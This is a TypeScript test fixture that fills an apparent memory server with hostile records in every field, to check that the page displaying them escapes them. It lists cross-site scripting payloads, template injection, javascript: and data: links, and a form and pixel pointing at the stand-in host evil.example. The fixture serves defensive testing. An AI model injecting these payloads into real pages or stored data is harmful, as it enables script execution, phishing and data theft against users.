import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Served } from './served.ts';

/** Texts that run a script in a page that inserts them without care. */
export const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe srcdoc="<script>alert(1)</script>">',
  '<style>header{display:none}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt&colon;alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:alert(1))',
  '![pixel](https://evil.example/pixel.png)',
  '<https://evil.example/" onclick="alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  "{{constructor.constructor('alert(1)')()}}",
  '``` "><script>alert(1)</script>\ncode\n```',
  '<a href="/memory/restore" id="page" name="main">x</a>',
  '[up](../../../../memory/home)',
  '[other](//evil.example/x.md)',
  '\u202Eevil\u202C \u0000 <\u200Bscript>',
];

/** Fills a memory with records that attack the page that shows them, in every field. */
export async function fillHostile(memory: Served): Promise<void> {
  const all = attacks.join('\n\n');
  await memory.call('write_memory_bank_file', { filename: 'evil.md', content: all });
  await memory.call('activate_project', { project_path: memory.repo.root });
  await memory.call('store_memory', { title: attacks[1] ?? '', type: 'rules', content: all });
  await memory.call('create_features', {
    features: [{ slug: 'evil', name: attacks[0] ?? '', description: all.slice(0, 9000) }],
  });
  for (const [i, attack] of attacks.entries()) {
    const value = `${attack} ${i}`.replaceAll('\u0000', '');
    await memory.call('memory_write', {
      category: 'patterns',
      key: `attack-${i}`,
      value,
      reason: value,
      context: value,
    });
  }
  await memory.call('log_decision', { title: attacks[2] ?? '', context: all, decision: all });
  writeFileSync(join(memory.repo.root, '.memory-bank/knowledge/patterns/broken.md'), all);
}
